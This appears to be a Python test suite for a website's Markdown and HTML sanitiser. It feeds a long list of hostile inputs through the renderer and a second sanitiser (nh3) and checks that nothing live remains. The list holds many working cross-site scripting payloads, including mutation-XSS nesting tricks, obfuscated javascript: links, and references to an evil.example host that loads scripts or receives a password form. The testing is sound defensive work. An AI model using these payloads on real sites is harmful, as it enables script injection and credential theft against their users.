"""Nothing hostile survives, whether it comes as Markdown, in a block or as HTML."""

import nh3
from hypothesis import given, settings
from hypothesis import strategies as st

from articles.markup import MarkupRefused, allowed_html, render, sanitise
from articles.markup.render import strip_controls
from tests.cases import for_each
from tests.site.hostile_markup import make_attacks

from .allowed import Reader, faults_in

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script >alert(1)</script >",
    "<script/x>alert(1)</script>",
    "text <script>alert(1) never closed",
    "<script><!--</script><img src=x onerror=alert(1)>--></script>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<p style='position:fixed;inset:0'>over the page</p>",
    '<p onclick="alert(1)">words</p>',
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="/media/a.png" onload="alert(1)">',
    "<IMG SRC=/media/a.png OnErRoR=alert(1)>",
    '<img src="/media/../admin/logout/">',
    '<img src="/media//evil.example/a.png">',
    '<img src="//evil.example/a.png">',
    '<img src="https://evil.example/track.gif?u=1">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img srcset="https://evil.example/a.png 2x" src="/media/a.png">',
    '<picture><source srcset="//evil.example/a.png"><img src="/media/a.png"></picture>',
    '<source srcset="/media/a.png 1w, //evil.example/a.png 2w">',
    '<img sizes="expression(1)" srcset="/media/../admin/ 1w" src="/media/a.png">',
    '<picture onclick="a(1)"><source srcset="/media/a.png 1w" media="x">x</picture>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/">x</a>',
    r'<a href="\\evil.example\x">x</a>',
    r'<a href="/\evil.example">x</a>',
    '<a href="https:\\\\evil.example">x</a>',
    '<a href="http:evil.example">x</a>',
    '<a href="https://site.example@evil.example/">x</a>',
    '<a href="https://[::1">x</a>',
    '<a href="/x" target="_blank" ping="//evil.example">x</a>',
    '<a href="/x" style="position:fixed">x</a>',
    "[x](javascript:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    '[x](/a "t\\" onmouseover=\\"alert(1)")',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](/media/a.png)',
    "![x](//evil.example/a.png)",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf><param name=a value=b><p>in</p></object>",
    "<embed src=x.swf>",
    "<video src=x onerror=alert(1)><source src=x></video>",
    "<audio src=x autoplay></audio>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script>"
    "</annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/a.css">',
    "<!-- <script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![if gte IE 4]><script>alert(1)</script><![endif]>",
    "<!DOCTYPE x [<!ENTITY a 'b'><!ELEMENT c>]>&a;",
    "<![<![CDATA[<! <!- <!-- <!--> </ </> <? <?>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<p title='\"><img src=x onerror=alert(1)>'>quotes</p>",
    "<a title='a\"b' href='/x' id='a\" onclick=\"alert(1)'>x</a>",
    "<p class='ad-label'>Advertisement</p><aside class='ad'>fake</aside>",
    "<p id='questions\" onclick=\"alert(1)'>x</p>",
    "<a class='video-link' data-embed='https://evil.example/embed/abcdefgh'>x</a>",
    "<a class='video-link' data-embed='https://www.youtube-nocookie.com.evil.example"
    "/embed/abcdefgh' href='/x'>x</a>",
    "<a data-embed='https://evil.example/https://player.vimeo.com/video/12345' href='/'"
    ">x</a>",
    "<a data-embed='https://www.youtube-nocookie.com@evil.example/embed/abcdefgh'"
    " href='/'>x</a>",
    "<a data-embed='javascript:alert(1)//www.youtube-nocookie.com/' href='/'>x</a>",
    "<div><p>never <b>closed <i>at all",
    "</div></section></main></body><p>outside?",
    "<table><script>alert(1)</script><tr><td onclick=alert(1)>x</table>",
    "<b><p><a href=javascript:alert(1)><table><b>mis</p>nested</b></a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
    "<custom-tag onfocus=alert(1) autofocus tabindex=1>x</custom-tag>",
    "<p/onclick=alert(1)>x",
    "<p\tonclick\n=\nalert(1)>x</p>",
    "<\u0131mg src=x onerror=alert(1)>\u017fcript",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<a href="\u200bjavascript:alert(1)">x</a>',
    "\u202e<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    f"<a href='&#{'1' * 3000};'>x</a> &#{'9' * 5000}; &#x{'f' * 5000};",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03 <b>x</b>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "/// figure | <img src=x onerror=alert(1)>\n![a](javascript:alert(1))\n\nb\n///",
    '/// note | "><script>alert(1)</script>\nText.\n///',
    "/// note | T\n    attrs: {onclick: alert(1), style: x}\n\nText.\n///",
    "/// content-note | <svg/onload=alert(1)>\nText.\n///",
    "/// pull\n<script>alert(1)</script>\n///",
    "/// video | javascript:alert(1)\n    title: x\n\nS.\n///",
    '/// video | https://youtu.be/abcdefgh"onclick="alert(1)\n    title: x\n\nS.\n///',
    "/// video | https://youtu.be/abcdefgh\n    title: <script>alert(1)</script>"
    "\n    poster: javascript:alert(1)\n    note: <b onclick=alert(1)>x</b>\n\nS.\n///",
    "/// video | https://youtube.com.evil.example/watch?v=abcdefgh\n\nS.\n///",
    "/// ad-break\n<script>alert(1)</script>\n///",
    "/// html | script\nalert(1)\n///",
    'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: note',
    "x[^a]\n\n[^a]: <script>alert(1)</script><img src=x onerror=alert(1)>",
    "## <img src=x onerror=alert(1)> heading <script>alert(1)</script>",
    "# x {: onclick=alert(1) }",
    '[x]{fr" onclick="alert(1)}',
    "[<script>alert(1)</script>]{fr}",
    "x[^a]\n\n[^a]: itself[^a]",
    "x[^a]\n\n[^a]: one[^b]\n\n[^b]: the other[^a]",
    "x[^a]\n\n[^a]: [^b]: [^a]: z",
    "x[^</section>]\n\n[^</section>]: </section></ol></main>",
    "## </h2></section></main><script>alert(1)</script>",
    "## a <!-- never closed\n\n## b",
    "</div></main></body></html>\n\n## Still inside",
    "<div class='table-scroll' tabindex='0' role='region' aria-label='\"><script>'>x",
    "| a\"onload=\"x | <b title='>'> |\n|--|--|\n| 1 | 2 |",
    "<section aria-labelledby='notes-title'><h2 id='notes-title' "
    "class='footnote-list-title'>x",
    "<p id='answer-1'>x</p><p id='answer-1'>y</p><h2 id='answer-1'>z</h2>",
    "<!-- a -- > <img src=x onerror=alert(1)> -->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<svg><title><style><img src='</style><img src=x onerror=alert(1)>'></title></svg>",
    "<svg><desc><noscript><p id='</noscript><img src=x onerror=alert(1)>'></desc>",
    "<mi><style><!--</style><a title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
    "<math><mtext><mglyph><svg><mtext><textarea><a title='</textarea><img src=x"
    " onerror=alert(1)>'>",
    "<svg><foreignObject><math><mi><script>alert(1)</script></mi></math></foreignObject>",
    "<form><table><form><math><mtext></form><style></math><img src onerror=alert(1)>",
    "<table><caption><svg><style></caption><img src=x onerror=alert(1)>",
    "<select><template><style><!--</template><a rel='--></style></select><img src=x"
    " onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<a><svg></a><a href='javascript:alert(1)'><style></a><img src onerror=alert(1)>",
    "<pre>\n\n\n<script>alert(1)</script></pre>",
    "<p>" * 50 + "<a href='/x'>" * 50 + "deep",
    "|<script>|b|\n|--|--|\n|<img src=x onerror=alert(1)>|c|",
]


def nh3_attributes():
    return {
        tag: set(
            allowed_html.EVERYWHERE.union(
                allowed_html.ATTRIBUTES.get(tag, ()), allowed_html.ADDED.get(tag, ())
            )
        )
        for tag in allowed_html.STORED_TAGS
    }


def shown(text):
    """Return a text as pages show it; nothing where it is refused."""
    try:
        return render(text).html
    except MarkupRefused:
        return ""


def keep_allowed(tag, name, value):
    return value if allowed_html.is_allowed_stored(tag, name, value) else None


def second_opinion(html):
    """Return what another sanitiser leaves of HTML, under the same allow-list."""
    return nh3.clean(
        html,
        tags=set(allowed_html.STORED_TAGS),
        clean_content_tags=set(allowed_html.RAW_TEXT_TAGS),
        attributes=nh3_attributes(),
        attribute_filter=keep_allowed,
        url_schemes=set(allowed_html.PROTOCOLS),
        link_rel=None,
    )


@for_each("hostile", HOSTILE)
def test_hostile_input_leaves_nothing_live(hostile):
    for html in (render(hostile).html, render(f"A\n\n{hostile}\n\nB").html):
        assert faults_in(html) == []
    assert faults_in(sanitise(hostile)) == []


@for_each("hostile", [*HOSTILE, *make_attacks(seed=5, count=300)])
def test_another_sanitiser_finds_nothing_to_remove(hostile):
    for html in (shown(hostile), sanitise(hostile)):
        theirs, ours = Reader(second_opinion(html)), Reader(html)
        assert (theirs.tags, theirs.text) == (ours.tags, ours.text)


@for_each("hostile", [*HOSTILE, *make_attacks(seed=5, count=300)])
def test_another_sanitiser_leaves_nothing_live_by_itself(hostile):
    """What the README says of replacing bleach is true."""
    assert faults_in(second_opinion(strip_controls(hostile))) == []


@for_each("hostile", HOSTILE)
def test_sanitising_again_changes_nothing(hostile):
    html = render(hostile, level=2).html
    assert sanitise(html) == html
    assert sanitise(sanitise(hostile)) == sanitise(hostile)


@for_each(
    "hostile",
    [
        "a <script>alert(1)</script> b",
        "a <style>p { color: red } alert(1)</style> b",
        "a <iframe>alert(1)</iframe> b",
        "a <template>alert(1)</template> b",
        "a <!-- alert(1) --> b",
        "a b <script>alert(1)",
    ],
)
def test_code_does_not_show_up_as_words(hostile):
    text = Reader(render(hostile).html).text
    assert "alert" not in text
    assert text.split() == ["a", "b"]


def test_code_that_is_written_about_stays():
    assert "&lt;script&gt;" in render("Never write `<script>` here.").html


def test_links_that_are_fine_stay():
    for address in (
        "https://a.example/b?c=1&amp;d=2#e",
        "http://a.example",
        "mailto:a@b.example",
        "tel:+441234",
        "/articles/x/",
        "#note-1",
        "?page=2",
        "other/",
    ):
        assert f'href="{address}"' in sanitise(f'<a href="{address}">x</a>')


PIECES = """
    <script> </script> <style> </style> <svg> <math> <mtext> <table> <tr> <td> <p>
    </p> <div> </div> <a_href="javascript:alert(1)"> </a> <img_src=x_onerror=alert(1)>
    <!-- --> <![CDATA[ ]]> <b> </b> <h1> <section> <aside> </aside> " ' > < & &lt; &#60;
    ` * [ ] ( ) ![ ](/x) ](javascript:x) /// ///_note_|_x ///_ad-break [^a] [^a]:_n # ##
    | |- - 1. words <textarea> <title> <noscript> <iframe> <template> <select> <option>
    <form> <details> <summary> <h2> </h2> <pre> <br> <hr_class="break">
    <p_id="a"> <a_id="a"> <h2_id="a"> <li_id="note-1"> <section_class="footnote-list">
    <th> </th> <caption> </table> #### <h5_class="footnote-list-title"> [x]{fr} ]{ar}
    <span_lang="fr"> </span> <a_href="/x"> <a_href="https://a.example">
    </section></main> <mi> --!>
"""
MIXTURES = st.sampled_from(PIECES.split()).map(lambda piece: piece.replace("_", " "))
GLUE = st.sampled_from(["", " ", "\n", "\n\n", "\n    "])


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.lists(st.tuples(MIXTURES, GLUE), max_size=25))
def test_any_mixture_of_pieces_is_safe_and_stable(pieces):
    text = "".join(piece + glue for piece, glue in pieces)
    try:
        html = render(text).html
    except MarkupRefused:
        return
    assert faults_in(html) == []
    assert sanitise(html) == html
    assert Reader(second_opinion(html)).tags == Reader(html).tags
    assert len(set(Reader(html).ids())) == len(Reader(html).ids())
